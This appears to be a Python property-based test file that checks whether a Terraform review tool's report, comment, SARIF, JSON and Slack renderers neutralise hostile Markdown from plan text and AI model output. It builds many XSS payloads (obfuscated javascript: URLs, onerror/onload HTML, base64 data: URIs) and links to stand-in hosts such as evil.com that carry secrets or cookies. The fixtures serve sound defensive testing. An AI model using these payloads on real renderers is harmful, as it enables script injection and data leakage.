"""Property: hostile Markdown, as model output or as plan text, comes out of every renderer inert.

Hypothesis composes fragments (inline, reference and shortcut links and images, link definitions,
autolinks, bare URLs and domains, look-alike schemes, entities, raw HTML, code and fence break-outs,
table pipes, line breaks) and the text goes through every renderer: the Markdown report, the Spacelift
comment (what write-back posts), SARIF (plain-text messages and Markdown help), and the JSON report's
Markdown field. A real CommonMark + GFM parser with linkify (markdown_check) must find nothing active.
"""

from __future__ import annotations

import json
import re
from dataclasses import replace
from datetime import UTC, datetime
from functools import cache
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.core.settings import load_settings
from app.services.notifications.events import event_detail
from app.services.notifications.messages import slack_message
from app.storage.models import Review
from reviewer.engine import review_plan
from reviewer.engine.reports import render
from reviewer.engine.reports.inert import block, code, has_active_markup, inline
from reviewer.engine.results import (
    AIReview,
    AIStatus,
    Category,
    ChangeRef,
    EngineResult,
    Finding,
    FindingSource,
    Severity,
)
from reviewer.engine.rules import RULES
from reviewer.llm import ReviewContext, run_ai_review
from reviewer.llm.fakes import ok, review_result, start_fake
from reviewer.llm.grounding import sanitize_markdown
from tests.reviewer.engine.reports.markdown_check import active_parts
from tests.reviewer.llm.conftest import change, raw_plan, settings_for
from webhook.graphql import ReviewDecision
from webhook.writeback import SpaceliftWriter, WritebackOptions, WritebackTarget, write_back

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "jav&#x61;script:alert(1)",
    "&#106;avascript:alert(1)",
    "java%73cript:alert(1)",
    "javascript\u200b:alert(1)",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:x",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "https://evil.com/steal?q=secret",
    "HTTPS://EVIL.COM",
    "http://127.0.0.1:8080/x",
    "//evil.com/x",
    "www.evil.com",
    "evil.com",
    "xn--pple-43d.com",
    "https://аpple.com",
    "mailto:a@evil.com",
    "a@evil.com",
    "evil\u3002com",
    "ftp://evil.com",
]
TEXT = st.text(alphabet="abcXYZ 019_-*#>!", max_size=6)
URL = st.sampled_from(SCHEMES)
REF = st.sampled_from(["r", "R", "1", "a b", "^1"])
LINKS = st.one_of(
    st.builds("[{}]({})".format, TEXT, URL),
    st.builds('[{}]({} "t")'.format, TEXT, URL),
    st.builds("[{}](<{}>)".format, TEXT, URL),
    st.builds("![{}]({})".format, TEXT, URL),
    st.builds("[{}][{}]".format, TEXT, REF),
    st.builds("![{}][{}]".format, TEXT, REF),
    st.builds("[{}][]".format, REF),
    st.builds("[{}]".format, REF),
    st.builds("\n[{}]: {}\n".format, REF, URL),
    st.builds("\n   [{}]: <{}> 'title'\n".format, REF, URL),
    st.builds("<{}>".format, URL),
    URL,
    st.builds("[![{}]({})]({})".format, TEXT, URL, URL),
)
HTML = st.sampled_from(
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<!-- hidden -->",
        "<details open ontoggle=alert(1)>",
        "</details>",
        "</summary>",
        "<sub>",
        "<svg/onload=alert(1)>",
        "&lt;script&gt;",
        "&#60;img src=x&#62;",
        "&#x3C;b&#x3E;",
        "&amp;lt;",
        "<iframe src=//evil.com>",
        "<?php ?>",
        "<![CDATA[x]]>",
    ]
)
BREAKOUTS = st.sampled_from(
    ["`", "``", "```", "\n```\n", "\n~~~\n", "\n  ```js\n", "|", "\n|---|---|\n", "\n", "\n\n", "\r", "\u2028",
     "\\", "\\[", "\\]", "]", "[", ")", "(", "    ", "\n    indented\n", "> ", "- ", "* ", "# ", "1. ", "\t", "\\`",
     "\x00", "\u200b", "\u202e", "&", ";", ":"]
)  # fmt: skip
HOSTILE = st.lists(st.one_of(LINKS, HTML, BREAKOUTS, TEXT), min_size=1, max_size=10).map("".join)
RUNS = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
# Every renderer twice per example (a SARIF document carries the whole rule catalog): fewer examples.
RENDERER_RUNS = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def _base_plan() -> dict[str, Any]:
    return raw_plan(
        change("aws_db_instance.db", ["delete"], {"identifier": "db", "deletion_protection": False}, None),
        change(
            "aws_security_group.open",
            ["create"],
            None,
            {"ingress": [{"from_port": 22, "to_port": 22, "protocol": "tcp", "cidr_blocks": ["0.0.0.0/0"]}]},
        ),
    )


@cache
def _base() -> EngineResult:
    result = review_plan(_base_plan()).result
    assert result.findings and result.destructive_changes
    return result


def _hostile_result(text: str) -> EngineResult:
    """The base review with `text` in every place plan text reaches (addresses, values, policy text)."""
    base = _base()
    findings = [
        replace(f, message=f"{f.message} {text}", attribute=text, address=f"{f.address}[{json.dumps(text)}]")
        for f in base.findings
    ]
    policy = Finding(
        rule_id=f"policy.{text}",
        title=text,
        severity=Severity.HIGH,
        category=Category.POLICY,
        address=f'aws_s3_bucket.b["{text}"]',
        type="aws_s3_bucket",
        action="create",
        introduced=True,
        message=text,
        remediation=text,
        source=FindingSource.POLICY,
    )
    posture = replace(policy, introduced=False, rule_id="TFR-POSTURE", message=f"posture {text}")
    return replace(
        base,
        findings=[*findings, policy, posture],
        risk=replace(base.risk, reasons=[*base.risk.reasons, f"AI review raised the level to HIGH: {text}"]),
        destructive_changes=[
            ChangeRef(
                address=f"{c.address}[{text!r}]",
                type=c.type,
                action=c.action,
                reason=text,
                replace_paths=[text],
            )
            for c in base.destructive_changes
        ],
        plan=replace(base.plan, terraform_version=text),
    )


def _ai(text: str, *, stored: bool) -> AIReview:
    """Model output carrying `text` everywhere; `stored` as grounding keeps it (summary made inert)."""
    summary = sanitize_markdown(text)[0] if stored else text
    return AIReview(
        status=AIStatus.OK,
        provider=text,
        model=text,
        summary_md=summary,
        justification=text,
        recommendations=[text, f"Do {text} now"],
    )


class _Recorder(SpaceliftWriter):
    def __init__(self) -> None:
        self.bodies: list[str] = []

    def run_comments(self, stack_id: str, run_id: str) -> list[str]:
        return []

    def run_comment(self, stack_id: str, run_id: str, body: str) -> object:
        self.bodies.append(body)
        return None

    def run_review(
        self, stack_id: str, run_id: str, decision: ReviewDecision, note: str | None = None
    ) -> object:
        return None


def _spacelift_comment(report_md: str) -> str:
    recorder = _Recorder()
    target = WritebackTarget(stack_id="s", run_id="r", review_id="01J", plan_sha="ab" * 32)
    write_back(
        recorder,
        target,
        report_md=report_md,
        risk_level=_base().risk.level,
        options=WritebackOptions(write_comment=True),
    )
    assert len(recorder.bodies) == 1
    return recorder.bodies[0]


# SARIF's embedded link in plain text: [text](uri), brackets not escaped by a backslash.
_SARIF_LINK_RE = re.compile(r"(?<!\\)\[(?:[^\]\\]|\\.)*(?<!\\)\]\(")
CATALOG_IDS = frozenset(rule.meta.id for rule in RULES)


def _sarif_texts(sarif: dict[str, Any]) -> tuple[list[str], list[str]]:
    """SARIF plain-text and Markdown fields that carry finding or policy text (the catalog's are ours)."""
    run = sarif["runs"][0]
    texts = [r["message"]["text"] for r in run["results"]]
    markdown: list[str] = []
    for rule in run["tool"]["driver"]["rules"]:
        if rule["id"] not in CATALOG_IDS:
            texts += [rule["shortDescription"]["text"], rule["help"]["text"]]
            markdown.append(rule["help"]["markdown"])
    assert markdown  # the policy finding's descriptor is among them
    return texts, markdown


def _assert_inert_everywhere(text: str) -> None:
    result = _hostile_result(text)
    for stored in (True, False):  # as stored after grounding, and raw (each renderer defends itself)
        ai = _ai(text, stored=stored)
        report = render("md", result, ai=ai, title=text)
        assert active_parts(report) == [], report
        assert active_parts(_spacelift_comment(report)) == []
        sarif = json.loads(render("sarif", result, ai=ai, title=text))
        plain, markdown = _sarif_texts(sarif)
        for field in plain:
            # SARIF viewers turn an unescaped [text](uri) of a plain-text message into a link.
            assert not _SARIF_LINK_RE.search(field), field
        for field in markdown:
            assert active_parts(field) == [], field
    document = json.loads(render("json", result, ai=_ai(text, stored=True), title=text))
    assert active_parts(document["ai"]["summary_md"]) == []


@RENDERER_RUNS
@given(HOSTILE)
def test_hostile_text_is_inert_in_every_renderer(text: str) -> None:
    _assert_inert_everywhere(text)


@RUNS
@given(HOSTILE)
def test_each_mechanism_alone_leaves_nothing_active(text: str) -> None:
    assert active_parts(inline(text)) == []
    assert (
        active_parts(f"| a | {inline(text)} | {code(text)} |\n|---|---|---|\n| {inline(text)} | b | c |")
        == []
    )
    assert active_parts(block(text)) == []
    assert active_parts(f"- {inline(text)}\n\n{block(text)}\n\nafter") == []


@RUNS
@given(HOSTILE)
def test_inert_model_markdown_is_stable(text: str) -> None:
    once = block(text)
    assert block(once) == once  # stored inert, rendered again by every report: no double escaping


@RUNS
@given(HOSTILE)
def test_a_table_cell_never_spills(text: str) -> None:
    row = f"| {inline(text)} | {code(text)} | end |"
    assert "\n" not in row
    assert len(re.findall(r"(?<!\\)\|", row)) == 4


_SLACK_CODE_RE = re.compile(r"`[^`]*`")
_SLACK_OUR_LINK_RE = re.compile(r"<https://tfr\.example\.com/reviews/\w+\|Open review>")
_LINKABLE_RE = re.compile(r"[.@:\u3002\uff0e\uff61\uff20\uff1a](?:[^\W_]|/)")


def _notification_review(text: str) -> Review:
    """A finished Spacelift review whose every label (title, stack, finding, AI text, person) is `text`."""
    return Review.model_validate(
        {
            "id": "01JAAAAAAAAAAAAAAAAAAAAAAA",
            "version": 2,
            "latest_version": 2,
            "status": "COMPLETED",
            "title": text,
            "plan": {"sha256": "0" * 64, "bytes": 1},
            "risk": {"score": 80, "level": "HIGH"},
            "decision": "APPROVED",
            "decided_by": text,
            "error": text,
            "findings": [
                {
                    "rule_id": "TFR-X",
                    "title": text,
                    "severity": "HIGH",
                    "category": "change",
                    "address": f"aws_s3_bucket.b[{json.dumps(text)}]",
                    "message": text,
                    "introduced": True,
                }
            ],
            "ai": {"status": "ok", "summary_md": sanitize_markdown(text)[0] or "x", "provider": "fake"},
            "spacelift": {"stack_id": "s", "stack_name": text, "run_id": "01RUN", "branch": text},
            "created_at": "2026-01-01T00:00:00Z",
            "updated_at": "2026-01-01T00:00:00Z",
        }
    )


def _slack_active(payload: dict[str, Any]) -> list[str]:
    """Slack mrkdwn that would act: a <...> link or mention that is not ours, a linkable word outside code."""
    texts = [payload["text"]]  # the fallback text, read as mrkdwn
    for item in payload["blocks"]:
        parts = [item["text"]] if "text" in item else item.get("elements", [])
        # plain_text (the header) is never formatted or linked; it only needs <, > and & escaped.
        texts += [part["text"] for part in parts if part["type"] == "mrkdwn"]
        assert all("<" not in part["text"] for part in parts if part["type"] == "plain_text")
    found: list[str] = []
    for text in texts:
        outside = _SLACK_CODE_RE.sub("", _SLACK_OUR_LINK_RE.sub("", text))
        found += [f"{text!r}: {part}" for part in re.findall(r"<|>", outside)]
        found += [f"{text!r}: {part}" for part in _LINKABLE_RE.findall(outside)]
    return found


@RENDERER_RUNS
@given(HOSTILE)
def test_hostile_text_is_inert_in_slack_notifications(text: str) -> None:
    settings = load_settings(env="test", dashboard_url="https://tfr.example.com/")
    at = datetime(2026, 1, 1, tzinfo=UTC)
    for kind in ("completed", "decided", "failed"):
        detail = event_detail(settings, _notification_review(text), kind, at)
        assert _slack_active(slack_message(detail)) == []


def test_known_attacks_are_inert_and_flagged() -> None:
    samples = [
        "[click](javascript:alert(document.cookie))",
        "![x][img]\n\n[img]: https://evil.com/pixel.png?secret=1",
        "[docs][d]\n[d]: data:text/html;base64,PHNjcmlwdD4=",
        "<https://evil.com>",
        "```\nunclosed fence swallowing the findings",
        "`` ` `` then [x](vbscript:msgbox)",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
    ]
    for sample in samples:
        _assert_inert_everywhere(sample)
        assert has_active_markup(sample) or sample.startswith("```") or sample.startswith("``")


def test_plain_model_markdown_keeps_its_formatting() -> None:
    text = "**Risky.** Destroys `aws_db_instance.db`.\n\n- snapshot first\n- check it\n\n```hcl\nx = 1\n```"
    assert block(text) == text
    assert sanitize_markdown(text) == (text, False)
    assert block("see https://docs.aws.amazon.com/x") == "see `https://docs.aws.amazon.com/x`"


def test_fences_are_closed_and_cannot_be_closed_early() -> None:
    text = block("```\ncode\n````` not a closer\n- [x](javascript:1)")
    assert text.endswith("\n``````")
    assert text.startswith("``````\ncode\n")  # longer than any run inside: the body cannot close it
    assert active_parts(text) == []


HOSTILE_MODEL_TEXT = (
    "## Summary\n\n<img src=x onerror=alert(1)> [docs][d] ![pixel][d] see evil.com\n\n"
    "[d]: javascript:alert(1)\n\n```\nunclosed fence"
)


@pytest.mark.parametrize("kind", ["openai", "anthropic", "bedrock"])
def test_model_output_through_each_provider_is_inert_in_every_report(kind: str) -> None:
    """The real AI layer over HTTP: the fake provider answers hostile text in every text field."""
    answer = review_result(
        risk_level="HIGH",
        summary_md=HOSTILE_MODEL_TEXT,
        justification="[x](javascript:alert(1)) <b>",
        recommendations=["Read [this](data:text/html,x) at www.evil.com", "<!-- hidden -->"],
        findings=[
            {
                "rule_id": "AI-X",
                "title": "![t](https://evil.com/p.png)",
                "severity": "HIGH",
                "address": "aws_db_instance.db",
                "attribute": None,
                "message": "[m][r]\n[r]: vbscript:x",
            }
        ],
    )
    raw = _base_plan()
    output = review_plan(raw)
    with start_fake(kind, [ok(answer)]) as fake:
        outcome = run_ai_review(
            output.plan,
            output.result,
            settings=settings_for(fake),
            context=ReviewContext(title="inert"),
            sleep=lambda _: None,
        )
    assert outcome.ai.status is AIStatus.OK and outcome.ai.untrusted_text
    assert outcome.findings, "the AI finding was grounded"
    result = replace(output.result, findings=[*output.result.findings, *outcome.findings], risk=outcome.risk)
    report = render("md", result, ai=outcome.ai)
    assert "evil.com" in report and active_parts(report) == []
    assert active_parts(_spacelift_comment(report)) == []
    assert active_parts(json.loads(render("json", result, ai=outcome.ai))["ai"]["summary_md"]) == []
    sarif = json.loads(render("sarif", result, ai=outcome.ai))
    assert not any(_SARIF_LINK_RE.search(r["message"]["text"]) for r in sarif["runs"][0]["results"])


def test_punctuation_around_an_address_stays_outside_its_code_span() -> None:
    # Before: "from `0.0.0.0/0.`" and "`aws_db_instance.orders:` Database ..." in every report table.
    assert inline("allows SSH from 0.0.0.0/0.") == "allows SSH from `0.0.0.0/0`."
    assert inline("aws_db_instance.orders: Database") == "`aws_db_instance.orders`: Database"
    assert inline("(module.ci.aws_iam_policy.x);") == "(`module.ci.aws_iam_policy.x`);"
    assert inline("x (see a.b).") == "x (see `a.b`)."
    # A bracket opened inside the word closes inside its span; links stay code either way.
    assert inline("f(a.b)") == "`f(a.b)`"
    assert inline("![x](https://evil.example/?q=1)") == "`![x](https://evil.example/?q=1)`"
    assert active_parts(inline("see https://evil.example/x).")) == []
